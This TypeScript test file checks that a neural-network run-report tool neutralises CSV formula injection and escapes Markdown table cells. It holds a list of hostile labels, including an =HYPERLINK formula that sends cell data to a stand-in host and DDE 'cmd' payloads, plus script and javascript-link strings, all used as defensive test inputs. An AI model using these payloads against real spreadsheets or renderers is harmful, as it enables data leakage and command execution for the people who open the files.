/**
 * CSV injection (OWASP) and Markdown rows: every CSV lenet writes goes through rundir/csv, which
 * neutralises spreadsheet formulas in text cells while numbers stay numbers; labels from a tampered
 * summary.json are data (the folder is still read) and cannot break a Markdown table row.
 */
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { epochsCsvText, readEpochsCsv } from '../src/rundir/epochs';
import { buildSummary, writeSummary } from '../src/rundir/summary';
import { collectRuns } from '../src/report/runs';
import { writeReport } from '../src/report/report';
import { confusionCsv } from '../src/report/confusion';
// rundir/csv's cell and text, through report/format (which every report table imports them from).
import { csvCell, csvText, markdownTable, mdInline } from '../src/report/format';
import { FakeRun, tempDir, writeComparisonDir } from './report-fixtures';

/** An RFC 4180 reader (quoted fields may hold commas, quotes doubled, line breaks): what a spreadsheet sees. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else cell += c;
      i++;
      continue;
    }
    if (c === '"') {
      assert.equal(cell, '', `a quote inside an unquoted cell: ${JSON.stringify(text.slice(Math.max(0, i - 20), i + 20))}`);
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
    i++;
  }
  assert.equal(quoted, false, 'an unterminated quoted cell');
  assert.equal(cell, '', 'the text ends with a line end');
  assert.equal(row.length, 0);
  return rows;
}

/** A cell a spreadsheet would run as a formula: it begins with = + - @ (or their full-width forms), a tab or a CR, after blanks. */
function dangerous(cell: string): boolean {
  // eslint-disable-next-line no-control-regex -- control characters are what it looks for
  return /^(?:[\t\r]|[\s\u0000-\u001f]*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(cell) && !/^-?[\d.]+(e[-+]?\d+)?$|^-Infinity$/i.test(cell);
}

/** Every cell of every CSV under dir: none may be a formula. */
function assertNoFormulas(dir: string): number {
  let files = 0;
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith('.csv')) {
        files++;
        for (const row of parseCsv(fs.readFileSync(p, 'utf8'))) {
          for (const cell of row)
            assert.ok(!dangerous(cell), `${path.relative(dir, p)}: a formula reaches the spreadsheet: ${JSON.stringify(cell)}`);
        }
      }
    }
  };
  walk(dir);
  return files;
}

/** Labels a hostile user leaves in a summary.json: every formula lead, blanks before it, full-width signs, separators. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '＝1+1',
  'a;=1+1',
  'x,"=1+1"',
];

test('csvCell: OWASP neutralises each formula lead, quotes as RFC 4180 says, and reads back as the text it was', () => {
  for (const label of HOSTILE) {
    const cell = csvCell(label);
    const [[back]] = parseCsv(cell + '\n');
    assert.ok(!dangerous(back), `${JSON.stringify(label)} → ${JSON.stringify(cell)}`);
    assert.equal(back.replace(/^'/, ''), label, 'the text itself is kept, behind one quote mark');
    assert.ok(cell.startsWith('"'), `a neutralised or separator-holding cell is quoted: ${JSON.stringify(cell)}`);
  }
  assert.equal(csvCell('=1+1'), `"'=1+1"`);
  assert.equal(csvCell('\t1'), `"'\t1"`);
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('relu,tanh,relu'), '"relu,tanh,relu"');
  assert.equal(csvCell('tanh-relu'), 'tanh-relu', 'a dash inside a name is harmless');
  assert.equal(csvCell(''), '');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(true), 'true');
});

test('csvCell: numbers stay numbers — negative, tiny, NaN, Infinity — whether given as numbers or as their text', () => {
  for (const [v, text] of [
    [-0.0003, '-0.0003'],
    [1e-7, '1e-7'],
    [-1.5e-10, '-1.5e-10'],
    [NaN, 'NaN'],
    [Infinity, 'Infinity'],
    [-Infinity, '-Infinity'],
    [0, '0'],
    [-12, '-12'],
  ] as Array<[number, string]>) {
    assert.equal(csvCell(v), text);
    assert.equal(csvCell(text), text, `the formatters give text: ${text}`);
    assert.ok(!dangerous(text));
    assert.equal(Number(text), v);
  }
  // Text that only begins like a number is text.
  assert.equal(csvCell('-1+1'), `"'-1+1"`);
  assert.equal(csvCell('-Infinity+1'), `"'-Infinity+1"`);
  assert.equal(csvCell('1,5'), '"1,5"');
});

test('epochs.csv and summary.csv go through the same cell: NaN/Infinity read back, a hostile schedule is text', () => {
  const rows = [
    {
      epoch: 1,
      train_loss: -0.0003,
      train_accuracy: 0.5,
      test_loss: NaN,
      test_accuracy: 0.1,
      seconds: 1.25,
      train_paper_loss: Infinity,
      test_paper_loss: -Infinity,
    },
  ];
  const text = epochsCsvText(rows);
  assert.equal(
    text,
    'epoch,train_loss,train_accuracy,test_loss,test_accuracy,seconds,train_paper_loss,test_paper_loss\n1,-0.0003,0.5,NaN,0.1,1.25,Infinity,-Infinity\n',
  );
  const dir = tempDir();
  fs.writeFileSync(path.join(dir, 'epochs.csv'), text);
  assert.deepEqual(readEpochsCsv(path.join(dir, 'epochs.csv')), rows);
  for (const label of HOSTILE) {
    const summary = buildSummary(
      { scheduleLabel: label, schedule: ['relu', 'relu', 'relu'], seed: 1, loss: 'crossentropy', epochs: 1, averageLast: 1 },
      'cpu',
      'MNIST',
      rows,
      true,
    );
    writeSummary(dir, summary);
    const csv = parseCsv(fs.readFileSync(path.join(dir, 'summary.csv'), 'utf8'));
    assert.equal(csv.length, 2);
    assert.equal(csv[1].length, csv[0].length, `one row, as many cells as the header (${JSON.stringify(label)})`);
    assert.equal(csv[1][0], dangerous(label) ? `'${label}` : label);
    assert.equal(csv[1][csv[0].indexOf('final_train_loss')], '-0.0003');
    assert.equal(csv[1][csv[0].indexOf('final_test_loss')], 'NaN');
  }
  assert.equal(assertNoFormulas(dir), 2);
});

test('a tampered folder is still read; comparison.csv, sweep.csv and the report write every hostile label as text', async () => {
  const dir = tempDir();
  const runs: FakeRun[] = HOSTILE.flatMap((label, i) =>
    [1, 2].map((seed) => ({
      label: ['sigmoid', 'tanh', 'relu', 'elu', 'selu', 'swish', 'softplus', 'mish'][i % 8] + (i >= 8 ? `,relu,tanh` : ''),
      seed,
      trainLoss: [1, 0.5 - i / 100 - seed / 1000],
      averageLast: 1,
      summaryLabel: label,
      summaryActivations: [label, '+1', '@x'],
    })),
  );
  writeComparisonDir(dir, runs, 'sweep');
  const c = collectRuns(dir);
  assert.deepEqual(c.groups.map((g) => g.label).sort(), [...HOSTILE].sort(), 'every tampered label is read, as data');
  const out = path.join(dir, 'out');
  const result = await writeReport(dir, out);
  assert.ok(result.files.some((f) => f.endsWith('sweep.csv')));
  assert.ok(assertNoFormulas(out) >= 2);

  const comparison = parseCsv(fs.readFileSync(path.join(out, 'comparison.csv'), 'utf8'));
  assert.equal(comparison.length, 1 + HOSTILE.length);
  for (const row of comparison.slice(1)) {
    assert.equal(row.length, comparison[0].length);
    assert.ok(HOSTILE.includes(row[0].replace(/^'/, '')), row[0]);
    assert.equal(row[comparison[0].indexOf('conv2')], `'+1`);
    assert.equal(row[comparison[0].indexOf('dense')], `'@x`);
    // The best schedule's name is a cell from a file too.
    assert.ok(HOSTILE.includes(row[comparison[0].indexOf('test_accuracy_best')].replace(/^'/, '')));
    // Numbers are numbers: the gap of a schedule behind the best is negative and unquoted.
    const gap = row[comparison[0].indexOf('test_accuracy_gap')];
    assert.ok(Number.isFinite(Number(gap)) && Number(gap) <= 0, gap);
  }
  const sweep = parseCsv(fs.readFileSync(path.join(out, 'sweep.csv'), 'utf8'));
  assert.equal(sweep.length, 1 + HOSTILE.length);
  assert.deepEqual(
    sweep.slice(1).map((r) => Number(r[0])),
    HOSTILE.map((_, i) => i + 1),
    'ranks are numbers',
  );
  assert.ok(
    sweep.slice(2).every((r) => Number(r[sweep[0].indexOf('gap_to_best')]) < 0),
    'negative gaps stay numbers',
  );

  // Markdown: one row per schedule, each with as many cells as the header, whatever the label holds.
  for (const file of ['comparison.md', 'sweep.md', 'report.md']) {
    const md = fs.readFileSync(path.join(out, file), 'utf8');
    assert.doesNotMatch(md, /<script|\n=1\+1/i, file);
    const tables = md.split('\n\n').filter((b) => b.startsWith('| '));
    assert.ok(tables.length >= 1, file);
    for (const table of tables) {
      const lines = table.trim().split('\n');
      const width = cellsOf(lines[0]).length;
      for (const line of lines) assert.equal(cellsOf(line).length, width, `${file}: a row broken by a label: ${line}`);
    }
    const rankingRows = md.split('\n').filter((l) => HOSTILE.some((h) => l.includes(mdInline(h)) && l.startsWith('| ')));
    assert.ok(rankingRows.length >= HOSTILE.length, `${file}: every label has its row`);
  }
});

/** The cells of a Markdown table row, split at the pipes GFM splits at (an escaped \| is not one). */
function cellsOf(line: string): string[] {
  assert.ok(line.startsWith('| ') && line.endsWith(' |'), `a row: ${line}`);
  const cells: string[] = [];
  let cell = '';
  for (let i = 1; i < line.length - 1; i++) {
    if (line[i] === '\\' && line[i + 1] !== undefined) {
      cell += line[i] + line[i + 1];
      i++;
    } else if (line[i] === '|') {
      cells.push(cell);
      cell = '';
    } else cell += line[i];
  }
  cells.push(cell);
  return cells;
}

test('mdInline: a pipe, a line break, raw HTML, a link or an escape sequence in a label cannot break a row or reach a renderer', () => {
  // Every hostile label as a cell of markdownTable: still one row of two cells.
  for (const label of [...HOSTILE, 'a|b\nc', 'a\\|b', 'x\r\n| y | z |']) {
    const lines = markdownTable(['schedule', 'acc'], [[label, '0.5']]).split('\n');
    assert.equal(lines.length, 3, JSON.stringify(label));
    assert.equal(cellsOf(lines[2]).length, 2, JSON.stringify(label));
  }
  assert.equal(mdInline('a|b'), 'a\\|b');
  assert.equal(mdInline('a\\|b'), 'a\\\\\\|b', 'a backslash before a pipe cannot unescape it');
  assert.equal(mdInline('a\nb\r\nc'), 'a\\\\nb\\\\r\\\\nc');
  assert.equal(mdInline('\u001b[31mred'), '\\\\u001b[31mred');
  assert.equal(mdInline('<script>x</script>'), '\\<script>x\\</script>');
  assert.equal(mdInline('[x](javascript:alert(1))'), '[x]\\(javascript:alert(1))');
  assert.equal(mdInline('![i](http://tracker/x.png)'), '![i]\\(http://tracker/x.png)');
  // What the tables themselves print is left alone.
  for (const plain of ['-0.0123 [-0.0200, -0.0046]', '< 0.001', 'relu,tanh,relu', '0.9885 ± 0.0004', 'n/a (diverged)']) {
    assert.equal(mdInline(plain), plain);
  }
});

test('confusion.csv goes through the same writer', () => {
  const text = confusionCsv(Array.from({ length: 10 }, (_, i) => Array.from({ length: 10 }, (_, j) => (i === j ? 5 : 0))));
  const rows = parseCsv(text);
  assert.equal(rows.length, 11);
  assert.equal(rows[0][0], 'true\\predicted');
  assert.equal(csvText(['a'], [[-1]]), 'a\n-1\n');
});

test('no source file writes CSV by hand: csv-writer is gone, and every .csv writer imports rundir/csv', () => {
  const root = path.resolve(__dirname, '..', '..', 'src');
  const files: string[] = [];
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      if (e.isDirectory()) walk(path.join(d, e.name));
      else if (e.name.endsWith('.ts')) files.push(path.join(d, e.name));
    }
  };
  walk(root);
  assert.ok(files.length > 20);
  for (const f of files) {
    const src = fs.readFileSync(f, 'utf8');
    assert.doesNotMatch(src, /from 'csv-writer'/, f);
    if (f.endsWith(path.join('rundir', 'csv.ts'))) continue;
    // A file that builds CSV text must take it from rundir/csv (directly or through report/format's re-export).
    if (/\bcsvText\(|\bcsvLine\(|\bcsvCell\(/.test(src)) assert.match(src, /from '(\.\.\/rundir\/csv|\.\/csv|\.\/format)'/, f);
    assert.doesNotMatch(src, /join\(','\)\s*\+\s*'\\n'/, `${path.relative(root, f)} joins CSV cells by hand`);
  }
});
